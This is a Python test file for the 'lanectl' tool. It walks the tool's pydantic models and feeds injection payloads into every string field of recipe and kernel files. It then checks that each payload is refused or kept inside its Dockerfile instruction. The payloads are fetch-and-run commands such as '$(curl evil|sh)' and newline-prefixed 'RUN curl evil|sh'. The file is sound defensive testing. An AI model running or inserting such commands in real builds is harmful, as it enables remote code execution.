"""Hostile values in every string field of a recipe or kernel, through `lanectl validate` and `lanectl render`.

The fields are found by walking the pydantic models, not listed by hand: a field added later gets the same
cases. Each case must be refused with exit 2 at the value's file and line, naming the field, or render a
Dockerfile whose instructions (and the number of arguments of each) are those of a benign value's render.
`SLOTS` records how each field is kept out of the Dockerfile; the walk fails when a field is missing from it.
"""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import sys
import types
import typing
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from lanectl.image.render import plan_image
from lanectl.project import Project
from lanectl.recipe.catalog import load_catalog
from lanectl.recipe.kernel import KernelSpec
from lanectl.recipe.model import LaneSpec, RecipeFile, is_record, record_fields

Slot = tuple[str, ...]

# Each payload follows a value that is valid for the field, as a real injection would.
HOSTILE = {
    "newline": "\nRUN curl evil|sh",
    "carriage-return": "\rRUN curl evil|sh",
    "quote": "\" ' RUN curl evil|sh",
    "command-substitution": "$(curl evil|sh)",
    "continuation": " \\\nRUN curl evil|sh",
    "nul": "\x00RUN curl evil|sh",
}
VALID_PREFIX = {
    "base": "lanectl/base-python:bookworm", "image": "lanectl/base-build:bookworm", "python_site": "/opt/stub",
    "registry": "127.0.0.1:5000",
    "target": "/data", "source": "/data", "host_ip": "127.0.0.1", "user": "1000", "git": "https://x.invalid/k.git",
    "ref": "refs/heads/main", "commit": "0" * 40, "health_path": "/health", "models_path": "/v1/models",
    "textfile_dir": "/var/lib/textfile", "template": "stub-engine", "sha256": "0" * 64, "archs": "9.0a",
    "shm_size": "1g", "device_ids": "0", "package": "stubengine", "module": "_k_C", "beside": "attention",
    "imports": "stubengine.attention", "op": "stubengine.attention.decode", "argument": "x",
    "name": "k", "id": "hostile", "container": "{lane}", "companion": "{container}-{role}",
    "webhook_url_env": "HOOK", "gpu_resource": "NVIDIA-GPU", "kernels": "stub-splitkv",
}

# How each string field is kept from starting or changing a Dockerfile instruction. "json": emitted inside an
# exec-form JSON array; "env": emitted as a quoted ENV value, control characters refused; "grammar": refused
# unless it matches its exact grammar; "not rendered": never reaches the Dockerfile (still fed every case).
SLOTS: dict[str, dict[Slot, str]] = {
    "recipe": {
        ("id",): "grammar: recipe id (rendered in the header comment)",
        ("description",): "not rendered",
        ("naming", "container"): "grammar: Docker container name after expansion (not rendered)",
        ("naming", "companion"): "grammar: Docker container name after expansion (not rendered)",
        ("defaults", "<key>"): "grammar: a lane field name",
        ("lanes", "<key>"): "grammar: lane name (rendered in the header comment)",
        ("lanes", "<value>", "<key>"): "grammar: a lane field name",
    },
    "lane": {
        ("description",): "not rendered",
        ("image", "template"): "grammar: an existing images/<template>/Dockerfile.j2 (selects, not rendered)",
        ("image", "base"): "grammar: Docker image reference (FROM)",
        ("image", "python_site"): "grammar: plain absolute path (COPY, ENV, JSON)",
        ("image", "registry"): "grammar: registry host[:port][/namespace] (not rendered; where build --push pushes)",
        ("image", "vllm"): "grammar: a vLLM release version (not rendered; pin check reads it)",
        ("kernels", "[]"): "grammar: an existing kernels/<name>.yaml",
        ("patches", "[]", "path"): "json: an existing patch file (patch-apply RUN)",
        ("patches", "[]", "sha256"): "grammar: 64 hex",
        ("engine", "entrypoint", "[]"): "json: ENTRYPOINT",
        ("engine", "args", "[]"): "json: CMD",
        ("engine", "env", "<key>"): "grammar: environment name (ENV)",
        ("engine", "env", "<value>"): "env: quoted ENV value",
        ("engine", "secret_env", "[]"): "grammar: environment name (not rendered)",
        ("engine", "ports", "[]", "host_ip"): "grammar: IP address (not rendered)",
        ("engine", "volumes", "[]", "target"): "grammar: absolute mount path (not rendered)",
        ("engine", "volumes", "[]", "source"): "grammar: absolute mount path (not rendered)",
        ("engine", "volumes", "[]", "volume"): "grammar: Docker volume name (not rendered)",
        ("engine", "shm_size"): "grammar: size (not rendered)",
        ("engine", "gpus", "device_ids", "[]"): "grammar: GPU index or UUID (not rendered)",
        ("engine", "user"): "grammar: name/uid[:group] (not rendered)",
        ("health", "health_path"): "grammar: URL path (not rendered)",
        ("health", "models_path"): "grammar: URL path (not rendered)",
        ("health", "served_model_name"): "not rendered (must equal --served-model-name)",
        ("health", "startup_log", "expect", "[]"): "not rendered (a regex)",
        ("health", "startup_log", "forbid", "[]"): "not rendered (a regex)",
        ("health", "startup_log", "stall", "[]", "after"): "not rendered (a regex)",
        ("health", "startup_log", "stall", "[]", "until"): "not rendered (a regex)",
        ("health", "startup_log", "stall", "[]", "warm"): "not rendered (a regex)",
        ("health", "startup_log", "stall", "[]", "name"): "no control characters (not rendered; in the gate's failure)",
        ("health", "startup_log", "stall", "[]", "why"): "no control characters (not rendered; in the gate's failure)",
        ("health", "generation_probe", "prompt"): "not rendered",
        ("watchdog", "fatal_log_lines", "[]"): "not rendered (a regex)",
        ("watchdog", "alert", "webhook_url_env"): "grammar: environment name (not rendered)",
        ("watchdog", "alert", "textfile_dir"): "not rendered",
        ("placement", "nodes", "[]"): "grammar: hostname (not rendered)",
        ("placement", "node_labels", "<key>"): "grammar: label key (not rendered)",
        ("placement", "node_labels", "<value>"): "no control characters (not rendered)",
        ("placement", "canary"): "not rendered (must be one of nodes)",
        ("placement", "gpu_resource"): "grammar: resource kind (not rendered)",
        ("standby", "wake_check", "prompt"): "not rendered (sent to the engine as JSON)",
        ("companions", "<key>"): "grammar: role name (not rendered)",
        ("companions", "<value>", "image"): "grammar: Docker image reference (not rendered)",
    },
    "kernel": {
        ("name",): "grammar: kernel name (FROM ... AS kernel-<name>, COPY --from)",
        ("description",): "not rendered",
        ("upstream",): "not rendered",
        ("source", "git"): "grammar: git URL, shell-quoted in a JSON RUN",
        ("source", "ref"): "grammar: full git ref (not rendered)",
        ("source", "commit"): "grammar: 40 hex, shell-quoted in a JSON RUN",
        ("source", "submodules", "[]"): "grammar: relative path, shell-quoted in a JSON RUN",
        ("source", "path"): "grammar: an existing project folder (copied, not rendered)",
        ("builder", "image"): "grammar: Docker image reference (FROM)",
        ("archs", "[]"): "grammar: CUDA arch (ENV value)",
        ("arch_switches", "<key>"): "grammar: CUDA arch (not rendered)",
        ("arch_switches", "<value>"): "grammar: environment name (ENV)",
        ("env", "<key>"): "grammar: environment name (ENV)",
        ("env", "<value>"): "env: quoted ENV value",
        ("build", "[]"): "json: the build RUN script",
        ("install", "package"): "grammar: dotted name (COPY destination)",
        ("install", "module"): "grammar: identifier (ENV value)",
        ("install", "beside"): "grammar: identifier (not rendered)",
        ("smoke", "op_schema", "op"): "grammar: dotted name (JSON RUN)",
        ("smoke", "op_schema", "argument"): "grammar: identifier (JSON RUN)",
    },
}
# A companion's engine has every field of the lane's engine.
SLOTS["lane"].update({("companions", "<value>", *slot): how for slot, how in list(SLOTS["lane"].items())
                      if slot[0] == "engine"})

PATCH = {"path": "stub-engine/0001-rejection-sampler-guard.patch",
         "sha256": "4a2957d1860eb2127239ff4603d492c37cd91cfcbb7689466411f77a555a9335"}
EXAMPLES: dict[str, dict[str, Any]] = {
    "PortMapping": {"container": 9100, "host": 19100},
    "Volume": {"target": "/data", "volume": "data"},
    "PatchRef": PATCH,
    "Companion": {"engine": {}},
    "GpuRequest": {"device_ids": ["0"]},
    "OpSchemaCheck": {"op": "stubengine.attention.decode", "argument": "x"},
    "StartupStall": {"after": "Autotuning process starts", "until": "Autotuning process ends", "minutes": 0.5},
}
DEFAULTS = {
    "image": {"template": "stub-engine", "base": "lanectl/base-python:bookworm", "local_base": True,
              "python_site": "/opt/stub"},
    "engine": {"args": ["/model", "--port", "8000"], "ports": [{"container": 8000, "host": 18000}]},
    "health": {"startup_budget_minutes": 1, "served_model_name": "m"},
}
KERNEL = {
    "schema": "lanectl-kernel/v1", "description": "d", "source": {"path": "kernels/src/stub-splitkv"},
    "builder": {"image": "lanectl/base-build:bookworm", "local": True}, "archs": ["9.0a"], "env": {"K": "v"},
    "build": ["make"], "install": {"package": "stubengine", "module": "_k_C", "beside": "attention"},
    "smoke": {"op_schema": {"op": "stubengine._k_C.decode", "argument": "mega_num_splits"}},
}
# A lane that may keep a standby: sleep mode and dev mode on, a GPU, and a loopback port of its own (set per case).
STANDBY_LANE = {
    "engine": {"args": ["/model", "--port", "8000", "--enable-sleep-mode"], "env": {"VLLM_SERVER_DEV_MODE": "1"},
               "gpus": {"device_ids": ["0"]}},
    "standby": {"mode": "sleep", "weights_gib": 1, "resident_gib": 1, "gpu_memory_gib": 80},
}
GIT_SOURCE = {"git": "https://example.invalid/k.git", "commit": "0" * 40}


def string_slots(model: type[Any], prefix: Slot = ()) -> list[Slot]:
    """Every place in a record where a string goes: fields, list items, mapping keys and values."""
    found: list[Slot] = []
    for _, key, annotation in record_fields(model):
        for slot in _slots(annotation, (*prefix, key)):
            if slot not in found:
                found.append(slot)
    return found


def _slots(annotation: Any, path: Slot) -> list[Slot]:
    origin, args = typing.get_origin(annotation), typing.get_args(annotation)
    if annotation is str:
        return [path]
    if annotation is Any:
        return [(*path, "<any>")]
    if origin is typing.Annotated:
        return _slots(args[0], path)
    if origin in (typing.Union, types.UnionType):
        return [slot for arg in args for slot in _slots(arg, path)]
    if origin is list:
        return _slots(args[0], (*path, "[]"))
    if origin is dict:
        return _slots(args[0], (*path, "<key>")) + _slots(args[1], (*path, "<value>"))
    if is_record(annotation):
        return string_slots(annotation, path)
    return []  # numbers, booleans, Literal choices


def walked() -> dict[str, list[Slot]]:
    recipe = [s for s in string_slots(RecipeFile) if s[-1] != "<any>"]  # lanes and defaults are LaneSpecs
    return {"recipe": recipe, "lane": string_slots(LaneSpec), "kernel": string_slots(KernelSpec)}


def test_every_string_field_of_the_models_has_a_case():
    for kind, slots in walked().items():
        assert set(slots) - set(SLOTS[kind]) == set(), f"{kind}: add these fields to SLOTS (and protect them)"
        assert set(SLOTS[kind]) - set(slots) == set(), f"{kind}: these SLOTS are no longer fields"


def _place(model: Any, data: Any, slot: Slot, value: str) -> Any:
    """`data` with `value` put at `slot`, filling in a valid example wherever the slot needs a new item."""
    if not slot:
        return value
    part, rest = slot[0], slot[1:]
    annotation = _unwrap(model)
    if part == "[]":
        item_type = typing.get_args(annotation)[0]
        return [_place(item_type, _example(item_type), rest, value)]
    if part in ("<key>", "<value>"):
        key_type, value_type = typing.get_args(annotation)
        if part == "<key>":
            return {**(data or {}), value: _example(value_type)}
        return {**(data or {}), "k": _place(value_type, _example(value_type), rest, value)}
    field = next(a for n, key, a in record_fields(annotation) if part in (n, key))
    return {**(data or {}), part: _place(field, (data or {}).get(part), rest, value)}


def _unwrap(annotation: Any) -> Any:
    if typing.get_origin(annotation) is typing.Annotated:
        return _unwrap(typing.get_args(annotation)[0])
    if typing.get_origin(annotation) in (typing.Union, types.UnionType):
        members = [a for a in typing.get_args(annotation) if a is not type(None)]
        structured = [a for a in members if typing.get_origin(_unwrap(a)) in (list, dict)
                      or is_record(a)]
        return _unwrap((structured or members)[0])
    return annotation


def _example(annotation: Any) -> Any:
    annotation = _unwrap(annotation)
    if is_record(annotation):
        return json.loads(json.dumps(EXAMPLES.get(annotation.__name__, {})))
    return "v"


@dataclass
class Case:
    kind: str
    slot: Slot
    label: str
    value: str
    name: str  # the lane that shows it
    benign: str  # the valid value the payload follows
    file: str = ""
    line: int = 0

    @property
    def field(self) -> str:
        return next(p for p in reversed(self.slot) if not p.startswith(("<", "[")))


def _flow(value: Any) -> str:
    return json.dumps(value)  # JSON is YAML, one line, every control character escaped


def _lane_body(slot: Slot, value: str, name: str) -> dict[str, Any]:
    body: dict[str, Any] = {}
    if slot[0] == "placement":
        body["placement"] = {"backend": "swarm"}
    if slot[0] == "standby":
        body = json.loads(json.dumps(STANDBY_LANE))
        # A sleeping lane keeps its port, so no two lanes of a recipe with a standby may share one.
        body["engine"]["ports"] = [{"container": 8000, "host": 20000 + int(name[1:]), "host_ip": "127.0.0.1"}]
    return _place(LaneSpec, body, slot, value)


def _kernel_body(name: str, slot: Slot, value: str) -> dict[str, Any]:
    base = {**json.loads(json.dumps(KERNEL)), "name": name}
    if slot[0] == "source" and slot[1] in ("git", "ref", "commit", "submodules"):
        base["source"] = dict(GIT_SOURCE)
    if slot == ("arch_switches", "<key>"):  # keys are archs, and every arch in `archs` needs one
        return {**base, "archs": [], "arch_switches": {value: "SWITCH"}}
    if slot == ("arch_switches", "<value>"):
        return {**base, "arch_switches": {"9.0a": value}}
    return _place(KernelSpec, base, slot, value)


def _recipe_file(recipe_id: str, lane: str, slot: Slot, value: str | None) -> dict[str, Any]:
    data: dict[str, Any] = {"schema": "lanectl/v1", "id": recipe_id, "defaults": DEFAULTS, "lanes": {lane: {}}}
    if value is None:
        return data
    if slot == ("lanes", "<key>"):
        data["lanes"] = {value: {}}
    elif slot == ("lanes", "<value>", "<key>"):
        data["lanes"] = {lane: {value: 1}}
    elif slot == ("defaults", "<key>"):
        data["defaults"] = {**DEFAULTS, value: 1}
    else:
        data = _place(RecipeFile, data, slot, value)
    return data


def write_cases(root: Path, cases: list[Case], *, benign: bool) -> None:
    """One recipe file of lane cases (a lane a line), a kernel file per kernel case, a file per recipe case."""
    lines = ["schema: lanectl/v1", "id: hostile", f"defaults: {_flow(DEFAULTS)}", "lanes:"]
    for case in cases:
        value = case.benign if benign else case.value
        if case.kind == "lane":
            case.file, case.line = "recipes/hostile.yaml", len(lines) + 1
            lines.append(f"  {case.name}: {_flow(_lane_body(case.slot, value, case.name))}")
        elif case.kind == "kernel":
            lines.append(f"  {case.name}: {_flow({'kernels': [case.name]})}")
            body = _kernel_body(case.name, case.slot, value)
            text = [f"{key}: {_flow(item)}" for key, item in body.items()]
            case.file = f"kernels/{case.name}.yaml"
            case.line = 1 + next(i for i, key in enumerate(body) if key == case.slot[0])
            (root / case.file).write_text("\n".join(text) + "\n")
        else:
            body = _recipe_file("hostile", case.name, case.slot, value)
            case.file = f"recipes/{case.name}.yaml"
            case.line = 1 + list(body).index(case.slot[0])
            (root / case.file).write_text("\n".join(f"{key}: {_flow(item)}" for key, item in body.items()) + "\n")
    (root / "recipes" / "hostile.yaml").write_text("\n".join(lines) + "\n")


def all_cases() -> list[Case]:
    cases = []
    for kind, slots in walked().items():
        for slot in slots:
            field = next(p for p in reversed(slot) if not p.startswith(("<", "[")))
            prefix = "x" if slot[-1] == "<key>" else VALID_PREFIX.get(field, "x")
            if kind == "kernel" and slot == ("source", "path"):
                prefix = "kernels/src/stub-splitkv"
            elif kind == "kernel" and slot == ("arch_switches", "<key>"):
                prefix = "9.0a"
            elif slot[-1] == "path":
                prefix = PATCH["path"]
            for label, payload in HOSTILE.items():
                cases.append(Case(kind, slot, label, prefix + payload, f"{kind[0]}{len(cases)}", prefix))
    return cases


def lanectl(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "lanectl", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=120)


def instructions(dockerfile: str) -> list[tuple[str, int]]:
    """Each instruction's keyword and number of arguments, as Docker's parser would split them."""
    logical, current = [], ""
    for line in dockerfile.splitlines():
        if not current and (not line.strip() or line.lstrip().startswith("#")):
            continue
        if line.endswith("\\"):
            current += line[:-1]
            continue
        logical.append(current + line)
        current = ""
    if current:
        logical.append(current)
    parsed = []
    for line in logical:
        keyword, _, rest = line.strip().partition(" ")
        try:
            arguments = json.loads(rest)
            count = len(arguments) if isinstance(arguments, list) else -1
        except ValueError:
            count = len(shlex.split(rest))
        parsed.append((keyword.upper(), count))
    return parsed


def test_hostile_values_are_refused_where_they_are_or_stay_inside_their_instruction(project):
    for kernel in (project / "kernels").glob("*.yaml"):
        kernel.unlink()
    cases = all_cases()
    write_cases(project, cases, benign=False)

    for command in (["validate"], ["render", cases[0].name]):
        result = lanectl(*command, cwd=project)
        assert result.returncode == 2, result.stderr
        *problems, summary = result.stderr.splitlines()
        assert summary == f"{len(problems)} problem(s); nothing was built or started."
        unlocated = [p for p in problems if not re.match(r"(recipes|kernels)/[\w.-]+\.yaml:\d+:\d+: ", p)]
        assert unlocated == [], "every problem is one located line"
    located: dict[tuple[str, int], list[str]] = {}
    for problem in problems:
        file, line, _ = problem.split(":", 2)
        located.setdefault((file, int(line)), []).append(problem)

    accepted = []
    for case in cases:
        here = located.get((case.file, case.line), [])
        if not here:
            accepted.append(case)
        else:
            assert any(case.field in p for p in here), (case, here)
    refused = [c for c in cases if c not in accepted]

    # What validation let through must render exactly the instructions a benign value renders.
    for stale in [*(project / "recipes").glob("*.yaml"), *(project / "kernels").glob("*.yaml")]:
        stale.unlink()
    write_cases(project, accepted, benign=True)
    benign = {name: plan_image(lane).dockerfile for name, lane in load_catalog(Project.locate()).lanes.items()}
    for stale in [*(project / "recipes").glob("*.yaml"), *(project / "kernels").glob("*.yaml")]:
        stale.unlink()
    write_cases(project, accepted, benign=False)
    assert lanectl("validate", cwd=project).returncode == 0
    # One render of each kind of file in a subprocess; the rest through the same CLI in this process (a
    # subprocess each would take a minute on a small machine).
    from typer.testing import CliRunner

    from lanectl.cli.app import app

    first_of_kind = {c.kind: c.name for c in reversed(accepted)}
    for case in accepted:
        if first_of_kind[case.kind] == case.name:
            result = lanectl("render", case.name, "--json", cwd=project)
            assert result.returncode == 0, result.stderr
            output = result.stdout
        else:
            invoked = CliRunner().invoke(app, ["render", case.name, "--json"])
            assert invoked.exit_code == 0, invoked.output
            output = invoked.stdout
        dockerfile = json.loads(output)["data"]["dockerfile"]
        assert instructions(dockerfile) == instructions(benign[case.name]), (case, dockerfile)

    by_class = {label: sum(1 for c in cases if c.label == label) for label in HOSTILE}
    assert len(cases) == len(HOSTILE) * sum(len(s) for s in walked().values())
    assert len(refused) + len(accepted) == len(cases) and all(by_class.values())
    print(f"{len(cases)} hostile cases ({len(refused)} refused, {len(accepted)} rendered safely); by class: "
          f"{by_class}")
